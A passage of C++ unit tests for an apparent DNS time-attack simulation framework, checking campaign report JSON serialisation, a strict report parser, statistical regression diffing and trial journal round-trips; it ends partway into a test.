  TrialContext ctx{.campaign_seed = 1, .trial = 0, .seed = 1234};
  TrialResult r = run_trial(spec, ctx);
  EXPECT_TRUE(r.error.empty());
  EXPECT_TRUE(r.success);
  // Poisoning before any honest round: the pool is (almost) all attacker.
  EXPECT_GT(r.metric, 2.0 / 3.0);
}

TEST(CampaignReport, JsonEscapesControlCharactersInErrors) {
  ScenarioSpec spec;
  spec.name = "synthetic/ctl";
  spec.attack = AttackKind::kCustom;
  spec.trial_fn = [](const ScenarioSpec&,
                     const TrialContext&) -> TrialResult {
    throw std::runtime_error("parse failed:\tline 3\r");
  };
  CampaignReport report =
      CampaignRunner({.seed = 1, .trials = 1, .threads = 1}).run({spec});
  std::string json = report.to_json();
  EXPECT_NE(json.find("parse failed:\\u0009line 3\\u000d"),
            std::string::npos);
  EXPECT_EQ(json.find('\t'), std::string::npos);
  EXPECT_EQ(json.find('\r'), std::string::npos);
}

TEST(CampaignRunner, ThrowingProgressCallbackSurfacesAfterRun) {
  // A progress callback that throws must not std::terminate the process
  // (it used to escape a worker thread); the first exception is rethrown
  // from run() after the pool joins.
  std::vector<ScenarioSpec> scenarios{synthetic_scenario("synthetic/mc")};
  CampaignRunner runner({.seed = 3, .trials = 4, .threads = 2});
  std::atomic<int> calls{0};
  runner.set_progress([&](const ScenarioSpec&, const TrialResult& r) {
    // The result must already be fully stored when we observe it.
    EXPECT_FALSE(r.seed == 0);
    if (++calls == 2) throw std::runtime_error("progress boom");
  });
  EXPECT_THROW((void)runner.run(scenarios), std::runtime_error);
  EXPECT_GE(calls.load(), 2);
}

TEST(CampaignReport, NonFiniteMetricsEmitNullNotNan) {
  // %.6g prints nan/inf, which is not JSON: one non-finite trial metric
  // used to corrupt the whole report for every downstream parser.
  ScenarioSpec spec = synthetic_scenario("synthetic/nonfinite");
  std::vector<TrialResult> results(2);
  results[0].trial = 0;
  results[0].success = true;
  results[0].duration_s = std::numeric_limits<double>::infinity();
  results[0].metric = std::numeric_limits<double>::quiet_NaN();
  results[1].trial = 1;
  results[1].metric = 0.25;

  CampaignReport report;
  report.seed = 1;
  report.trials_per_scenario = 2;
  report.scenarios.push_back(ScenarioAggregate::from_results(spec, results));
  std::string json = report.to_json();
  EXPECT_EQ(json.find("nan"), std::string::npos) << json;
  EXPECT_EQ(json.find("inf"), std::string::npos) << json;
  EXPECT_NE(json.find("\"metric\":null"), std::string::npos) << json;
  EXPECT_NE(json.find("\"duration_s\":null"), std::string::npos) << json;
}

TEST(CampaignReport, AggregatesAndJsonShape) {
  ScenarioSpec spec = synthetic_scenario("synthetic/agg");
  std::vector<TrialResult> results(4);
  for (u32 i = 0; i < 4; ++i) {
    results[i].trial = i;
    results[i].success = i < 3;
    results[i].duration_s = 100.0 * (i + 1);
    results[i].metric = 0.5;
    results[i].fragments_planted = 10;
  }
  ScenarioAggregate agg = ScenarioAggregate::from_results(spec, results);
  EXPECT_EQ(agg.successes, 3u);
  EXPECT_DOUBLE_EQ(agg.success_rate, 0.75);
  EXPECT_DOUBLE_EQ(agg.duration_mean_s, 200.0);  // over successes only
  EXPECT_DOUBLE_EQ(agg.metric_mean, 0.5);
  EXPECT_EQ(agg.fragments_total, 40u);

  CampaignReport report;
  report.seed = 3;
  report.trials_per_scenario = 4;
  report.scenarios.push_back(agg);
  std::string json = report.to_json();
  EXPECT_NE(json.find("\"name\":\"synthetic/agg\""), std::string::npos);
  EXPECT_NE(json.find("\"success_rate\":0.75"), std::string::npos);
  // Compact form omits per-trial results but keeps aggregates.
  std::string compact = report.to_json(/*include_trials=*/false);
  EXPECT_EQ(compact.find("\"results\""), std::string::npos);
  EXPECT_NE(compact.find("\"duration_mean_s\":200"), std::string::npos);
}

}  // namespace
}  // namespace dnstime::campaign
