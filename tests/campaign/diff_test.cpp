// The cross-campaign diff subsystem's three contracts:
//   1. the ReportReader is the exact inverse of CampaignReport::to_json()
//      — randomized round-trip over adversarial reports (non-finite
//      metrics, unicode and control-character names, empty scenarios),
//      1000 iterations;
//   2. the reader is strict: trailing garbage, duplicate keys, duplicate
//      scenario names, unknown/missing keys, malformed numbers and
//      inconsistent aggregates are rejected with line/column diagnostics
//      (no JSON-level repeat of the old atoi silent-acceptance bug);
//   3. diff_campaigns annotates real movements as significant with the
//      right test (welch-t with trial data, normal-approx / z-test from
//      aggregates) and the regression gate counts exactly the significant
//      deltas plus vanished scenarios.
#include <gtest/gtest.h>

#include <bit>
#include <cmath>
#include <cstdlib>
#include <limits>
#include <string>
#include <vector>

#include "campaign/diff/diff.h"
#include "campaign/diff/report_reader.h"
#include "campaign/report.h"
#include "common/rng.h"

namespace dnstime::campaign {
namespace {

constexpr double kNaN = std::numeric_limits<double>::quiet_NaN();
constexpr double kInf = std::numeric_limits<double>::infinity();

// --- round-trip property ----------------------------------------------------

/// JSON collapses every non-finite double to null, which parses back as
/// NaN: equality treats the whole non-finite class as one value and
/// demands bit-exactness for the rest (covers -0.0).
bool same_double(double a, double b) {
  if (!std::isfinite(a) || !std::isfinite(b)) {
    return !std::isfinite(a) && !std::isfinite(b);
  }
  return std::bit_cast<u64>(a) == std::bit_cast<u64>(b);
}

/// %.6g loses precision, so the generator emits only values that survive
/// one format/parse cycle — then parse(emit(r)) == r holds exactly.
double stabilize(double v) {
  if (!std::isfinite(v)) return v;
  return std::strtod(json_number(v).c_str(), nullptr);
}

double random_metric(Rng& rng) {
  switch (rng.uniform(0, 6)) {
    case 0: return kNaN;
    case 1: return kInf;
    case 2: return -kInf;
    case 3: return -0.0;
    case 4: return stabilize((rng.uniform01() - 0.5) * 1e6);
    case 5: return stabilize(5e-324);  // denormals survive the reader
    default: return stabilize(rng.uniform01());
  }
}

std::string random_name(Rng& rng, u64 ordinal) {
  static const char* kBases[] = {
      "table2/ntpd-p1",     "sweep/\xce\xbc-mtu",      // μ
      "snow\xe2\x98\x83man",                           // ☃
      "esc\"ape\\name",     "ctrl\x01\x1f\ntail",      // forces \u escapes
      "plain",
  };
  return std::string(kBases[rng.uniform(0, 5)]) + "#" +
         std::to_string(ordinal);
}

TrialResult random_trial(Rng& rng, u32 trial) {
  TrialResult t;
  t.trial = trial;
  t.seed = rng.uniform(0, ~u64{0});
  t.success = rng.chance(0.6);
  t.duration_s = random_metric(rng);
  t.clock_shift_s = random_metric(rng);
  t.metric = random_metric(rng);
  t.fragments_planted = rng.uniform(0, 1u << 20);
  t.replant_rounds = rng.uniform(0, 64);
  switch (rng.uniform(0, 3)) {
    case 0: t.error = ""; break;
    case 1: t.error = "multi\nline \"quoted\" \\slash"; break;
    case 2: t.error = "unicode \xc3\xa9\xe2\x98\x83 and ctrl \x02"; break;
    default: t.error = "boom"; break;
  }
  return t;
}

CampaignReport random_report(Rng& rng) {
  CampaignReport r;
  r.seed = rng.uniform(0, ~u64{0});
  r.trials_per_scenario = static_cast<u32>(rng.uniform(0, 6));
  const u64 scenario_count = rng.uniform(0, 4);  // 0: empty scenarios array
  for (u64 i = 0; i < scenario_count; ++i) {
    ScenarioAggregate s;
    s.name = random_name(rng, i);
    s.attack = rng.chance(0.5) ? "run-time" : "custom";
    s.trials = static_cast<u32>(rng.uniform(0, 8));
    s.successes = static_cast<u32>(rng.uniform(0, s.trials));
    s.errors = static_cast<u32>(rng.uniform(0, s.trials));
    s.success_rate = random_metric(rng);
    s.duration_mean_s = random_metric(rng);
    s.duration_p50_s = random_metric(rng);
    s.duration_p90_s = random_metric(rng);
    s.shift_mean_s = random_metric(rng);
    s.metric_mean = random_metric(rng);
    s.fragments_total = rng.uniform(0, ~u64{0});
    if (rng.chance(0.7)) {
      const u64 results = rng.uniform(0, 5);
      for (u64 t = 0; t < results; ++t) {
        s.results.push_back(random_trial(rng, static_cast<u32>(t)));
      }
    }
    r.scenarios.push_back(std::move(s));
  }
  return r;
}

void expect_same_trial(const TrialResult& a, const TrialResult& b) {
  EXPECT_EQ(a.trial, b.trial);
  EXPECT_EQ(a.seed, b.seed);
  EXPECT_EQ(a.success, b.success);
  EXPECT_TRUE(same_double(a.duration_s, b.duration_s));
  EXPECT_TRUE(same_double(a.clock_shift_s, b.clock_shift_s));
  EXPECT_TRUE(same_double(a.metric, b.metric));
  EXPECT_EQ(a.fragments_planted, b.fragments_planted);
  EXPECT_EQ(a.replant_rounds, b.replant_rounds);
  EXPECT_EQ(a.error, b.error);
}

void expect_same_report(const CampaignReport& a, const CampaignReport& b,
                        bool with_trials) {
  EXPECT_EQ(a.seed, b.seed);
  EXPECT_EQ(a.trials_per_scenario, b.trials_per_scenario);
  ASSERT_EQ(a.scenarios.size(), b.scenarios.size());
  for (std::size_t i = 0; i < a.scenarios.size(); ++i) {
    const ScenarioAggregate& x = a.scenarios[i];
    const ScenarioAggregate& y = b.scenarios[i];
    EXPECT_EQ(x.name, y.name);
    EXPECT_EQ(x.attack, y.attack);
    EXPECT_EQ(x.trials, y.trials);
    EXPECT_EQ(x.successes, y.successes);
    EXPECT_EQ(x.errors, y.errors);
    EXPECT_TRUE(same_double(x.success_rate, y.success_rate));
    EXPECT_TRUE(same_double(x.duration_mean_s, y.duration_mean_s));
    EXPECT_TRUE(same_double(x.duration_p50_s, y.duration_p50_s));
    EXPECT_TRUE(same_double(x.duration_p90_s, y.duration_p90_s));
    EXPECT_TRUE(same_double(x.shift_mean_s, y.shift_mean_s));
    EXPECT_TRUE(same_double(x.metric_mean, y.metric_mean));
    EXPECT_EQ(x.fragments_total, y.fragments_total);
    if (with_trials) {
      ASSERT_EQ(x.results.size(), y.results.size());
      for (std::size_t t = 0; t < x.results.size(); ++t) {
        expect_same_trial(x.results[t], y.results[t]);
      }
    } else {
      EXPECT_TRUE(y.results.empty());
    }
  }
}

TEST(ReportRoundTrip, RandomizedPropertyThousandIterations) {
  for (u64 iteration = 0; iteration < 1000; ++iteration) {
    Rng rng{mix_seed(0xd1ff, iteration)};
    CampaignReport report = random_report(rng);
    const bool with_trials = rng.chance(0.7);
    const std::string json = report.to_json(with_trials);

    CampaignReport parsed;
    try {
      parsed = diff::parse_report(json);
    } catch (const diff::ParseError& e) {
      FAIL() << "iteration " << iteration << ": " << e.what() << "\n"
             << json;
    }
    // Byte fixpoint: re-emission reproduces the input exactly...
    EXPECT_EQ(parsed.to_json(with_trials), json) << "iteration " << iteration;
    // ...and the structs match field-for-field (parse(emit(r)) == r).
    expect_same_report(report, parsed, with_trials);
  }
}

// --- reader strictness ------------------------------------------------------

std::string valid_json() {
  CampaignReport r;
  r.seed = 7;
  r.trials_per_scenario = 2;
  ScenarioAggregate s;
  s.name = "synthetic/a";
  s.attack = "custom";
  s.trials = 2;
  s.successes = 1;
  s.errors = 0;
  s.success_rate = 0.5;
  s.duration_mean_s = 60.0;
  s.duration_p50_s = 60.0;
  s.duration_p90_s = 60.0;
  s.shift_mean_s = -500.0;
  s.metric_mean = 0.25;
  s.fragments_total = 12;
  r.scenarios.push_back(std::move(s));
  return r.to_json();
}

TEST(ReportReader, AcceptsOwnOutputAndWhitespace) {
  EXPECT_NO_THROW((void)diff::parse_report(valid_json()));
  // Pretty-printed (python json.dump style) must parse identically: the
  // CI doctoring scripts rewrite baselines through stock JSON libraries.
  std::string spaced;
  for (char c : valid_json()) {
    spaced += c;
    if (c == ',' || c == ':' || c == '{' || c == '[') spaced += "\n  ";
  }
  CampaignReport a = diff::parse_report(valid_json());
  CampaignReport b = diff::parse_report(spaced);
  EXPECT_EQ(a.to_json(), b.to_json());
}

TEST(ReportReader, RejectsTrailingGarbage) {
  const std::string json = valid_json();
  for (const char* tail : {" x", "{}", "]", "null", "\n\n7"}) {
    try {
      (void)diff::parse_report(json + tail, "r.json");
      FAIL() << "accepted trailing garbage: " << tail;
    } catch (const diff::ParseError& e) {
      EXPECT_NE(std::string(e.what()).find("trailing garbage"),
                std::string::npos);
    }
  }
  // Whitespace after the object is not garbage.
  EXPECT_NO_THROW((void)diff::parse_report(json + "\n \t\n"));
}

TEST(ReportReader, RejectsDuplicateKeysWithPosition) {
  try {
    (void)diff::parse_report(
        "{\"seed\":1,\n \"seed\":2,\"trials_per_scenario\":0,"
        "\"scenarios\":[]}",
        "dup.json");
    FAIL() << "accepted a duplicate key";
  } catch (const diff::ParseError& e) {
    EXPECT_NE(std::string(e.what()).find("duplicate key \"seed\""),
              std::string::npos);
    // The diagnostic points at the second "seed", line 2 column 2.
    EXPECT_EQ(e.line(), 2u);
    EXPECT_EQ(e.column(), 2u);
    EXPECT_EQ(e.offset(), 12u);
    EXPECT_NE(std::string(e.what()).find("dup.json:2:2"), std::string::npos);
  }
}

TEST(ReportReader, RejectsDuplicateScenarioNames) {
  std::string json = valid_json();
  // Duplicate the single scenario verbatim.
  const std::size_t open = json.find("[{");
  const std::size_t close = json.rfind("}]");
  const std::string scenario = json.substr(open + 1, close - open);
  json.insert(close + 1, "," + scenario);
  try {
    (void)diff::parse_report(json);
    FAIL() << "accepted duplicate scenario names";
  } catch (const diff::ParseError& e) {
    EXPECT_NE(
        std::string(e.what()).find("duplicate scenario \"synthetic/a\""),
        std::string::npos);
  }
}

TEST(ReportReader, RejectsUnknownAndMissingKeys) {
  EXPECT_THROW(
      (void)diff::parse_report("{\"seed\":1,\"bogus\":2,"
                               "\"trials_per_scenario\":0,\"scenarios\":[]}"),
      diff::ParseError);
  EXPECT_THROW((void)diff::parse_report("{\"seed\":1,\"scenarios\":[]}"),
               diff::ParseError);
  try {
    (void)diff::parse_report("{\"seed\":1,\"scenarios\":[]}");
  } catch (const diff::ParseError& e) {
    EXPECT_NE(
        std::string(e.what()).find("missing key \"trials_per_scenario\""),
        std::string::npos);
  }
}

TEST(ReportReader, RejectsMalformedNumbers) {
  // The integer fields take plain unsigned decimal tokens only — no
  // signs, fractions, exponents, leading zeros or overflow.
  for (const char* bad : {"-1", "1.5", "01", "1e3", "99999999999999999999",
                          "\"7\"", "null"}) {
    std::string json = std::string("{\"seed\":") + bad +
                       ",\"trials_per_scenario\":0,\"scenarios\":[]}";
    EXPECT_THROW((void)diff::parse_report(json), diff::ParseError)
        << "accepted seed=" << bad;
  }
  // Doubles accept the full JSON number grammar plus null (including
  // denormals, which the writer legitimately emits)...
  std::string json = valid_json();
  const std::string from = "\"success_rate\":0.5";
  for (const char* ok : {"\"success_rate\":5e-1", "\"success_rate\":null",
                         "\"success_rate\":-0", "\"success_rate\":1e-320"}) {
    std::string patched = json;
    patched.replace(patched.find(from), from.size(), ok);
    EXPECT_NO_THROW((void)diff::parse_report(patched)) << ok;
  }
  // ...but not bare garbage, and not literals that overflow to infinity —
  // the writer's null convention means a finite-typed field must never
  // smuggle in a non-finite value.
  for (const char* bad : {"\"success_rate\":nan", "\"success_rate\":.5",
                          "\"success_rate\":1.", "\"success_rate\":+1",
                          "\"success_rate\":1e400",
                          "\"success_rate\":-1e400"}) {
    std::string patched = json;
    patched.replace(patched.find(from), from.size(), bad);
    EXPECT_THROW((void)diff::parse_report(patched), diff::ParseError) << bad;
  }
}

TEST(ReportReader, RejectsInconsistentAggregates) {
  std::string json = valid_json();
  const std::string from = "\"successes\":1";
  json.replace(json.find(from), from.size(), "\"successes\":3");
  try {
    (void)diff::parse_report(json);
    FAIL() << "accepted successes > trials";
  } catch (const diff::ParseError& e) {
    EXPECT_NE(std::string(e.what()).find("successes exceed trials"),
              std::string::npos);
  }
}

TEST(ReportReader, RejectsBrokenStrings) {
  EXPECT_THROW((void)diff::parse_report("{\"seed"), diff::ParseError);
  // Raw control characters must be escaped per RFC 8259.
  EXPECT_THROW(
      (void)diff::parse_report("{\"se\x01"
                               "ed\":1,\"trials_per_scenario\":0,"
                               "\"scenarios\":[]}"),
      diff::ParseError);
  // Lone surrogates are not code points.
  EXPECT_THROW((void)diff::parse_report(
                   "{\"seed\":1,\"trials_per_scenario\":0,\"scenarios\":"
                   "[{\"name\":\"\\ud800\",\"attack\":\"x\"}]}"),
               diff::ParseError);
}

TEST(ReportReader, NullMapsToNaN) {
  std::string json = valid_json();
  const std::string from = "\"duration_mean_s\":60";
  json.replace(json.find(from), from.size(), "\"duration_mean_s\":null");
  CampaignReport r = diff::parse_report(json);
  EXPECT_TRUE(std::isnan(r.scenarios[0].duration_mean_s));
}

// --- diff semantics ---------------------------------------------------------

/// Builds a scenario aggregate through the production fold, from synthetic
/// success durations (failures get the deadline duration, unused by the
/// duration aggregates).
ScenarioAggregate make_scenario(const std::string& name, u32 trials,
                                const std::vector<double>& success_durations,
                                bool keep_results) {
  ScenarioAggregateBuilder builder(name, "custom", keep_results);
  for (u32 t = 0; t < trials; ++t) {
    TrialResult r;
    r.trial = t;
    r.seed = 1000 + t;
    if (t < success_durations.size()) {
      r.success = true;
      r.duration_s = success_durations[t];
      r.clock_shift_s = -500.0;
    } else {
      r.success = false;
      r.duration_s = 21600.0;
    }
    r.metric = static_cast<double>(t % 3);
    builder.add(std::move(r));
  }
  return std::move(builder).finish();
}

CampaignReport one_scenario_report(u64 seed, ScenarioAggregate s) {
  CampaignReport r;
  r.seed = seed;
  r.trials_per_scenario = s.trials;
  r.scenarios.push_back(std::move(s));
  return r;
}

const diff::MetricDelta& metric(const diff::DiffResult& d,
                                const std::string& name) {
  for (const diff::ScenarioDiff& sd : d.scenarios) {
    for (const diff::MetricDelta& m : sd.metrics) {
      if (m.metric == name) return m;
    }
  }
  throw std::runtime_error("metric not found: " + name);
}

TEST(CampaignDiff, IdenticalReportsAreAllUnchanged) {
  CampaignReport r = one_scenario_report(
      1, make_scenario("s/a", 8, {60, 61, 62, 63, 64, 65}, true));
  diff::DiffResult d = diff::diff_campaigns(r, r, {});
  EXPECT_EQ(d.significant, 0u);
  EXPECT_EQ(d.regressions(0.05), 0u);
  for (const diff::ScenarioDiff& sd : d.scenarios) {
    for (const diff::MetricDelta& m : sd.metrics) {
      EXPECT_EQ(m.verdict, diff::Verdict::kUnchanged) << m.metric;
    }
  }
  EXPECT_EQ(metric(d, "success_rate").test, "two-proportion-z");
  EXPECT_EQ(metric(d, "duration_mean_s").test, "welch-t");
  EXPECT_EQ(metric(d, "duration_dist").test, "ks");
}

TEST(CampaignDiff, SuccessRateDropIsARegression) {
  // 98/100 vs 2/8 successes: the two-proportion z-test is unambiguous.
  std::vector<double> many(98, 60.0);
  CampaignReport baseline =
      one_scenario_report(1, make_scenario("s/a", 100, many, false));
  CampaignReport candidate =
      one_scenario_report(2, make_scenario("s/a", 8, {60.0, 61.0}, false));
  diff::DiffResult d = diff::diff_campaigns(baseline, candidate, {});
  const diff::MetricDelta& m = metric(d, "success_rate");
  EXPECT_EQ(m.verdict, diff::Verdict::kRegressed);
  EXPECT_LT(m.p, 1e-6);
  EXPECT_GE(d.regressions(0.05), 1u);
  // The same movement upward is an improvement, and still gated.
  diff::DiffResult up = diff::diff_campaigns(candidate, baseline, {});
  EXPECT_EQ(metric(up, "success_rate").verdict, diff::Verdict::kImproved);
  EXPECT_GE(up.regressions(0.05), 1u);
}

TEST(CampaignDiff, DurationShiftUsesWelchWithTrialData) {
  CampaignReport baseline = one_scenario_report(
      1, make_scenario("s/a", 8, {60, 61, 62, 63, 60, 61, 62, 63}, true));
  CampaignReport candidate = one_scenario_report(
      2, make_scenario("s/a", 8, {90, 91, 92, 93, 90, 91, 92, 93}, true));
  diff::DiffResult d = diff::diff_campaigns(baseline, candidate, {});
  const diff::MetricDelta& m = metric(d, "duration_mean_s");
  EXPECT_EQ(m.test, "welch-t");
  EXPECT_EQ(m.verdict, diff::Verdict::kRegressed);  // slower attack
  EXPECT_LT(m.p, 1e-6);
  EXPECT_DOUBLE_EQ(m.delta, 30.0);
  // KS sees the disjoint distributions too.
  EXPECT_EQ(metric(d, "duration_dist").verdict, diff::Verdict::kShifted);
  // Faster is an improvement.
  diff::DiffResult faster = diff::diff_campaigns(candidate, baseline, {});
  EXPECT_EQ(metric(faster, "duration_mean_s").verdict,
            diff::Verdict::kImproved);
}

TEST(CampaignDiff, AggregatesOnlyFallsBackToNormalApprox) {
  // keep_results = false: what a journaled-run report looks like.
  CampaignReport baseline = one_scenario_report(
      1, make_scenario("s/a", 10, {60, 62, 64, 66, 68, 70, 72, 74}, false));
  CampaignReport candidate = one_scenario_report(
      2, make_scenario("s/a", 10, {90, 92, 94, 96, 98, 100, 102, 104},
                       false));
  diff::DiffResult d = diff::diff_campaigns(baseline, candidate, {});
  const diff::MetricDelta& m = metric(d, "duration_mean_s");
  EXPECT_EQ(m.test, "normal-approx");
  EXPECT_EQ(m.verdict, diff::Verdict::kRegressed);
  // No trial data: the trial-only tests stay untested, never fabricated.
  EXPECT_EQ(metric(d, "duration_dist").test, "none");
  EXPECT_TRUE(std::isnan(metric(d, "duration_dist").p));
  EXPECT_EQ(metric(d, "shift_mean_s").test, "none");
  // A zero p50..p90 spread on both sides cannot support the approximation.
  CampaignReport flat_b = one_scenario_report(
      1, make_scenario("s/b", 4, {60, 60, 60, 60}, false));
  CampaignReport flat_c = one_scenario_report(
      2, make_scenario("s/b", 4, {75, 75, 75, 75}, false));
  diff::DiffResult flat = diff::diff_campaigns(flat_b, flat_c, {});
  EXPECT_EQ(metric(flat, "duration_mean_s").test, "none");
  EXPECT_TRUE(std::isnan(metric(flat, "duration_mean_s").p));
}

TEST(CampaignDiff, MissingScenariosGateNewOnesDoNot) {
  CampaignReport baseline;
  baseline.seed = 1;
  baseline.trials_per_scenario = 4;
  baseline.scenarios.push_back(make_scenario("s/kept", 4, {60, 61}, true));
  baseline.scenarios.push_back(make_scenario("s/gone", 4, {60, 61}, true));
  CampaignReport candidate;
  candidate.seed = 2;
  candidate.trials_per_scenario = 4;
  candidate.scenarios.push_back(make_scenario("s/kept", 4, {60, 61}, true));
  candidate.scenarios.push_back(make_scenario("s/new", 4, {60, 61}, true));

  diff::DiffResult d = diff::diff_campaigns(baseline, candidate, {});
  ASSERT_EQ(d.scenarios.size(), 3u);
  EXPECT_EQ(d.regressions(0.05), 1u);  // s/gone only; s/new is free
  const diff::ScenarioDiff& gone = d.scenarios[1];
  EXPECT_EQ(gone.name, "s/gone");
  EXPECT_TRUE(gone.in_baseline);
  EXPECT_FALSE(gone.in_candidate);
  const diff::ScenarioDiff& added = d.scenarios[2];
  EXPECT_EQ(added.name, "s/new");
  EXPECT_FALSE(added.in_baseline);
  EXPECT_TRUE(added.in_candidate);
}

TEST(CampaignDiff, AttackKindMismatchIsNotAMatch) {
  ScenarioAggregate a = make_scenario("s/a", 4, {60, 61}, true);
  ScenarioAggregate b = make_scenario("s/a", 4, {60, 61}, true);
  b.attack = "run-time";  // same name, different experiment
  diff::DiffResult d = diff::diff_campaigns(one_scenario_report(1, a),
                                            one_scenario_report(2, b), {});
  ASSERT_EQ(d.scenarios.size(), 2u);
  EXPECT_FALSE(d.scenarios[0].in_candidate);
  EXPECT_FALSE(d.scenarios[1].in_baseline);
  EXPECT_EQ(d.regressions(0.05), 1u);
}

TEST(CampaignDiff, AlphaControlsAnnotationOnly) {
  // 6/8 vs 2/8 successes: p ~ 0.046 — significant at 0.05, not at 0.01.
  CampaignReport baseline = one_scenario_report(
      1, make_scenario("s/a", 8, std::vector<double>(6, 60.0), false));
  CampaignReport candidate = one_scenario_report(
      2, make_scenario("s/a", 8, std::vector<double>(2, 60.0), false));
  diff::DiffResult strict = diff::diff_campaigns(
      baseline, candidate, {.alpha = 0.01});
  EXPECT_EQ(metric(strict, "success_rate").verdict,
            diff::Verdict::kUnchanged);
  EXPECT_EQ(strict.regressions(0.01), 0u);
  diff::DiffResult loose = diff::diff_campaigns(
      baseline, candidate, {.alpha = 0.05});
  EXPECT_EQ(metric(loose, "success_rate").verdict,
            diff::Verdict::kRegressed);
  EXPECT_EQ(loose.regressions(0.05), 1u);
}

TEST(CampaignDiff, JsonOutputIsParseableShape) {
  CampaignReport r = one_scenario_report(
      1, make_scenario("s/a", 8, {60, 61, 62, 63, 64, 65}, true));
  diff::DiffResult d = diff::diff_campaigns(r, r, {});
  const std::string json = d.to_json();
  EXPECT_NE(json.find("\"alpha\":0.05"), std::string::npos);
  EXPECT_NE(json.find("\"metric\":\"success_rate\""), std::string::npos);
  EXPECT_NE(json.find("\"verdict\":\"unchanged\""), std::string::npos);
  // Untested metrics serialise p as null, never nan.
  EXPECT_EQ(json.find("nan"), std::string::npos);
}

}  // namespace
}  // namespace dnstime::campaign
