// The trial journal's three contracts:
//   1. round-trip fidelity — any TrialResult (non-finite doubles, empty /
//      newline / NUL-bearing error strings) survives shard write + merged
//      read bit-for-bit;
//   2. crash tolerance — a torn or corrupted final frame costs exactly the
//      records after the last valid frame, never the whole shard;
//   3. resume determinism — journal K of N trials, restart, and the final
//      report is byte-identical to one uninterrupted in-memory run, at any
//      thread count, while the runner keeps no per-trial results resident.
#include <gtest/gtest.h>

#include <atomic>
#include <bit>
#include <cstdio>
#include <filesystem>
#include <limits>
#include <string>
#include <vector>

#include "campaign/runner.h"
#include "campaign/store/journal.h"
#include "campaign/store/journal_reader.h"
#include "campaign/store/shard_writer.h"
#include "campaign/trial.h"
#include "common/rng.h"

namespace dnstime::campaign {
namespace {

namespace fs = std::filesystem;

/// Fresh directory under the gtest temp root, wiped on construction so a
/// crashed previous run cannot leak state into this one.
struct TempJournalDir {
  explicit TempJournalDir(const std::string& tag)
      : path((fs::path(::testing::TempDir()) / ("dnstime_journal_" + tag))
                 .string()) {
    fs::remove_all(path);
    fs::create_directories(path);
  }
  ~TempJournalDir() {
    std::error_code ec;
    fs::remove_all(path, ec);
  }
  std::string path;
};

/// Same cheap deterministic scenario the runner tests use: exercises the
/// whole journal/report path without building a World.
ScenarioSpec synthetic_scenario(std::string name) {
  ScenarioSpec spec;
  spec.name = std::move(name);
  spec.attack = AttackKind::kCustom;
  spec.trial_fn = [](const ScenarioSpec&, const TrialContext& ctx) {
    Rng rng{ctx.seed};
    TrialResult r;
    r.metric = rng.uniform01();
    r.duration_s = 60.0 + 540.0 * rng.uniform01();
    r.success = rng.chance(0.8);
    r.clock_shift_s = r.success ? -500.0 : 0.0;
    r.fragments_planted = rng.uniform(0, 30);
    return r;
  };
  return spec;
}

std::vector<ScenarioSpec> two_synthetic_scenarios() {
  std::vector<ScenarioSpec> scenarios;
  scenarios.push_back(synthetic_scenario("synthetic/a"));
  scenarios.push_back(synthetic_scenario("synthetic/b"));
  return scenarios;
}

/// Adversarial TrialResult: non-finite doubles, negative zero, and error
/// strings that are empty, multi-line, NUL-bearing or long.
TrialResult random_result(Rng& rng, u32 trial) {
  TrialResult r;
  r.trial = trial;
  r.seed = rng.uniform(0, ~u64{0});
  r.success = rng.chance(0.7);
  switch (rng.uniform(0, 3)) {
    case 0: r.duration_s = rng.uniform01() * 1e4; break;
    case 1: r.duration_s = std::numeric_limits<double>::quiet_NaN(); break;
    case 2: r.duration_s = std::numeric_limits<double>::infinity(); break;
    default: r.duration_s = -0.0; break;
  }
  r.clock_shift_s = rng.chance(0.2)
                        ? -std::numeric_limits<double>::infinity()
                        : -rng.uniform01() * 1000.0;
  r.metric = rng.chance(0.2) ? std::numeric_limits<double>::quiet_NaN()
                             : rng.uniform01();
  r.fragments_planted = rng.uniform(0, 1u << 20);
  r.replant_rounds = rng.uniform(0, 64);
  switch (rng.uniform(0, 3)) {
    case 0: r.error = ""; break;
    case 1: r.error = "boom"; break;
    case 2:
      r.error = std::string("multi\nline\terror with a NUL: ");
      r.error.push_back('\0');
      r.error += "tail";
      break;
    default: r.error = std::string(3000, 'x'); break;
  }
  return r;
}

void expect_identical(const TrialResult& a, const TrialResult& b) {
  EXPECT_EQ(a.trial, b.trial);
  EXPECT_EQ(a.seed, b.seed);
  EXPECT_EQ(a.success, b.success);
  // Bit comparison: NaN payloads and signed zeros must round-trip exactly.
  EXPECT_EQ(std::bit_cast<u64>(a.duration_s), std::bit_cast<u64>(b.duration_s));
  EXPECT_EQ(std::bit_cast<u64>(a.clock_shift_s),
            std::bit_cast<u64>(b.clock_shift_s));
  EXPECT_EQ(std::bit_cast<u64>(a.metric), std::bit_cast<u64>(b.metric));
  EXPECT_EQ(a.fragments_planted, b.fragments_planted);
  EXPECT_EQ(a.replant_rounds, b.replant_rounds);
  EXPECT_EQ(a.error, b.error);
}

TEST(TrialJournal, RandomizedResultsRoundTripThroughShardedWriteAndMerge) {
  TempJournalDir dir("roundtrip");
  auto scenarios = two_synthetic_scenarios();
  const u32 trials = 64;
  store::JournalMeta meta = store::JournalMeta::describe(99, trials, scenarios);

  // Scatter the trials over three shards (ascending within each, like a
  // worker pool does), journaling only ~80% of them.
  Rng rng{1234};
  std::vector<store::ShardWriter> writers;
  for (u32 id = 0; id < 3; ++id) writers.emplace_back(dir.path, meta, id);
  std::vector<std::pair<u64, TrialResult>> expected;  // key -> result
  for (u32 s = 0; s < scenarios.size(); ++s) {
    for (u32 t = 0; t < trials; ++t) {
      if (!rng.chance(0.8)) continue;
      TrialResult r = random_result(rng, t);
      writers[rng.uniform(0, 2)].append(s, r);
      expected.emplace_back(u64{s} * trials + t, std::move(r));
    }
  }
  for (auto& w : writers) w.close();

  store::JournalMerge merge(dir.path);
  ASSERT_TRUE(merge.valid());
  EXPECT_EQ(merge.meta().campaign_seed, 99u);
  EXPECT_EQ(merge.meta().trials_per_scenario, trials);
  ASSERT_EQ(merge.meta().scenarios.size(), 2u);
  EXPECT_EQ(merge.meta().scenarios[0].name, "synthetic/a");
  EXPECT_EQ(merge.meta().scenarios[1].attack, "custom");

  store::JournalRecord rec;
  std::size_t i = 0;
  while (merge.next(rec)) {
    ASSERT_LT(i, expected.size());
    EXPECT_EQ(u64{rec.scenario} * trials + rec.result.trial,
              expected[i].first);  // merged back into trial-index order
    expect_identical(rec.result, expected[i].second);
    i++;
  }
  EXPECT_EQ(i, expected.size());
}

TEST(TrialJournal, DuplicateRecordsAcrossShardsCollapseToOne) {
  TempJournalDir dir("dupes");
